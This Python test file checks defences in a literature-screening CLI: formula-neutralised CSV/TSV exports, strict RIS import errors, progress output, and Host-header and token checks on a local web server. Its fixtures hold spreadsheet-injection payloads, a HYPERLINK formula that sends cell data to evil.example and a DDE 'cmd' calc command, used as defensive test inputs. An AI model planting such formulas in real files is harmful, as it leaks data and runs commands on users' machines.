"""`hysem screen` at its boundaries: exports a spreadsheet opens as data, imports that name what they
cannot read, a simulation that says how far it is, and a page server that answers only to its own
address (and, beyond loopback, only to the token it printed)."""

from __future__ import annotations

import csv
import json
import re
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from hysem_assets.cli import main
from hysem_assets.screening.decisions import Decision, DecisionLog, decisions_path
from hysem_assets.screening.web import host_names
from hysem_assets.settings.environment import asset_file
from hysem_assets.stores.tables import write_parquet
from hysem_assets_tests.acquisition.helpers import SAMPLE
from hysem_assets_tests.screening.test_page import Server
from hysem_assets_tests.screening.works import corpus

#: Titles and reasons a spreadsheet would evaluate, as a remote source or another tool may give them.
HOSTILE_TITLES = {"w00": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "w06": "+cmd|' /C calc'!A0"}
HOSTILE_REASONS = {"w06": "@SUM(1+1) not a cohort", "w07": "-2+3 wrong outcome", "w08": "'=1+1 quoted already"}


def hostile_corpus() -> pd.DataFrame:
    works = corpus()
    works["title"] = [HOSTILE_TITLES.get(record, title) for record, title in zip(works["cluster_id"], works["title"])]
    works.loc[works["cluster_id"] == "w08", "title"] = "\t=1+1 tabbed title"
    return works


def current() -> dict[str, tuple[str, str | None]]:
    return {k: (d.action, d.reason) for k, d in DecisionLog(decisions_path(SAMPLE)).current().items()}


@pytest.mark.parametrize(("name", "sep"), [("decisions.csv", ","), ("decisions.tsv", "\t")])
def test_an_export_is_inert_in_a_spreadsheet_and_imports_back_as_it_was(tmp_path: Path, name: str, sep: str) -> None:
    works = hostile_corpus()
    write_parquet(works, asset_file("deduped_corpus", SAMPLE))
    decided = [Decision("w00", "included")] + [Decision(k, "excluded", reason) for k, reason in HOSTILE_REASONS.items()]
    DecisionLog(decisions_path(SAMPLE)).append(decided)
    runner = CliRunner()
    path = tmp_path / name
    exported = runner.invoke(main, ["screen", "export", str(path), "--query", SAMPLE])
    assert exported.exit_code == 0, exported.output

    with open(path, newline="", encoding="utf-8") as file:
        rows = {row["record_id"]: row for row in csv.DictReader(file, delimiter=sep)}
    assert rows["w00"]["title"] == "'" + HOSTILE_TITLES["w00"] and rows["w06"]["title"] == "'" + HOSTILE_TITLES["w06"]
    assert rows["w08"]["title"] == "'\t=1+1 tabbed title"
    assert {k: rows[k]["exclusion_reason"] for k in HOSTILE_REASONS} == {k: "'" + v for k, v in HOSTILE_REASONS.items()}
    assert rows["w01"]["title"] == works["title"][1] and rows["w00"]["included"] == "1"  # plain cells stay plain

    # without ids or DOIs the rows must match by their titles, read back as the corpus holds them
    anonymous = tmp_path / f"anonymous{path.suffix}"
    written = pd.read_csv(path, sep=sep, dtype=str, keep_default_na=False)  # the cells as written, apostrophes too
    written.assign(record_id="", doi="").to_csv(anonymous, sep=sep, index=False)
    decisions_path(SAMPLE).unlink()
    imported = runner.invoke(main, ["screen", "import", str(anonymous), "--query", SAMPLE])
    assert imported.exit_code == 0, imported.output
    assert current() == {"w00": ("included", None)} | {k: ("excluded", v) for k, v in HOSTILE_REASONS.items()}
    again = runner.invoke(main, ["screen", "import", str(path), "--query", SAMPLE])
    assert "Imported 0 new and 0 changed decision(s); 4 already so" in again.output


RIS_HEAD = "TY  - JOUR\nID  - w00\nN1  - ASReview_relevant\nER  - \n\n"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (RIS_HEAD + "TY  - JOUR\nID  - w01\nN1  - ASReview_maybe\nER  - \n", "record 2 (ID w01) has the note 'ASReview_maybe', which is no label"),
        (RIS_HEAD + "TY  - JOUR\nID  - w01\nN1  - ASReview_irrelevant\n", "line 6 opens a record with no 'ER  - ' line"),
        ("TY  - JOUR\nID  - w00\nN1  - ASReview_relevant\n\n" + RIS_HEAD, "line 1 opens a record with no 'ER  - ' line"),
        ("TY  - JOUR\nID  - w00\nN1  - Included\nER  - \n", "no record has a label note (N1 ASReview_relevant"),
    ],
    ids=["unknown label", "no ER at the end", "no ER before the next record", "no label at all"],
)  # fmt: skip
def test_a_ris_import_it_cannot_read_whole_is_refused_in_one_line(tmp_path: Path, text: str, said: str) -> None:
    write_parquet(corpus(), asset_file("deduped_corpus", SAMPLE))
    path = tmp_path / "asreview.ris"
    path.write_text(text, encoding="utf-8")
    refused = CliRunner().invoke(main, ["screen", "import", str(path), "--query", SAMPLE])
    assert refused.exit_code == 1 and said in refused.output, refused.output
    assert len(refused.output.strip().splitlines()) == 1 and "Traceback" not in refused.output
    assert current() == {}  # nothing imported, not even the readable record


def test_a_simulation_reports_its_progress_on_stderr(tmp_path: Path) -> None:
    labels = [1, 0, 1, 0, 0, 1] + [0] * 24
    review = pd.DataFrame(
        {
            "record_id": range(len(labels)),
            "title": [
                ("air pollution stroke cohort" if label else "bowel habits survey") + f" {k}"
                for k, label in enumerate(labels)
            ],  # fmt: skip
            "abstract": ["machine learning of exposure" if label else "diet questionnaire" for label in labels],
            "label_included": labels,
        }
    )
    path = tmp_path / "review.csv"
    review.to_csv(path, index=False)
    done = CliRunner().invoke(main, ["screen", "simulate", str(path), "--json", "--progress-every", "0"])
    assert done.exit_code == 0, done.output
    screened = len(json.loads(done.stdout)["screened"])
    lines = re.findall(r"^screened: (\d+)/28 records", done.stderr, flags=re.MULTILINE)
    assert [int(n) for n in lines] == list(range(1, screened + 1))  # one line per record at interval 0
    assert "Simulating 30 records" in done.stderr
    quiet = CliRunner().invoke(main, ["screen", "simulate", str(path), "--json", "--progress-every", "3600"])
    assert len(re.findall(r"^screened: ", quiet.stderr, flags=re.MULTILINE)) == 1  # the first only


def test_the_host_a_request_may_name_is_the_address_it_reached() -> None:
    assert host_names("127.0.0.1", 8765, "127.0.0.1") == {"127.0.0.1:8765", "localhost:8765", "[::1]:8765"}
    # bound everywhere: a request over another interface must name that interface, never loopback
    assert host_names("192.0.2.2", 8765, "0.0.0.0") == {"192.0.2.2:8765"}
    assert host_names("::ffff:192.0.2.2", 8765, "::") == {"192.0.2.2:8765"}
    assert host_names("192.0.2.2", 8765, "screen.example") == {"192.0.2.2:8765", "screen.example:8765"}
    assert "127.0.0.1" in host_names("127.0.0.1", 80, "127.0.0.1")  # a browser leaves port 80 out


def request(url: str, body: dict | None = None, headers: dict[str, str] | None = None) -> tuple[int, str, dict]:
    data = None if body is None else json.dumps(body).encode()
    sent = {"Content-Type": "application/json", **(headers or {})}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=data, headers=sent), timeout=30) as response:
            return response.status, response.read().decode(), dict(response.headers)
    except urllib.error.HTTPError as refused:
        return refused.code, json.loads(refused.read())["error"], dict(refused.headers)


@pytest.fixture
def works_stored() -> Iterator[None]:
    write_parquet(corpus(), asset_file("deduped_corpus", SAMPLE))
    yield


def test_a_loopback_server_refuses_a_host_that_is_not_its_own(isolated_home: Path, works_stored) -> None:
    server = Server(isolated_home)
    try:
        port = server.url.rstrip("/").rsplit(":", 1)[1]
        assert "Warning" not in server.output.read_text() and "token" not in server.url
        decide = server.url + "api/decide"
        for host in ("evil.example:80", f"127.0.0.1:{int(port) + 1}", f"192.0.2.77:{port}"):
            status, error, _ = request(decide, {"record_id": "w00", "action": "included"}, {"Host": host})
            assert status == 421 and f"not to {host!r}" in error and "\n" not in error
        assert current() == {}
        assert request(decide, {"record_id": "w00", "action": "included"}, {"Host": f"localhost:{port}"})[0] == 200
        assert current() == {"w00": ("included", None)}
    finally:
        server.stop()


def test_a_server_beyond_loopback_warns_and_answers_only_its_token(isolated_home: Path, works_stored) -> None:
    server = Server(isolated_home, host="0.0.0.0")
    try:
        said = server.output.read_text()
        assert "Warning: serving on 0.0.0.0, beyond this machine" in said
        [url] = re.findall(r"at (http://\S+)", said)
        root, token = url.split("?token=")
        assert len(token) >= 32 and root == server.url
        decide = {"record_id": "w00", "action": "included"}
        for wrong in ("", "?token=guess"):
            status, error, _ = request(root + "api/decide" + wrong, decide)
            assert status == 403 and "open it with the ?token= URL" in error and token not in error
        assert request(root + "api/state")[0] == 403 and current() == {}

        status, page, headers = request(url)  # the page, as the printed URL opens it: it sets the cookie
        assert status == 200 and "<html" in page
        cookie = headers["Set-Cookie"].split(";", 1)[0]
        assert token in cookie and "HttpOnly" in headers["Set-Cookie"] and "SameSite=Strict" in headers["Set-Cookie"]
        assert request(root + "api/decide", decide, {"Cookie": cookie})[0] == 200  # as the page's script calls it
        assert current() == {"w00": ("included", None)}

    finally:
        server.stop()
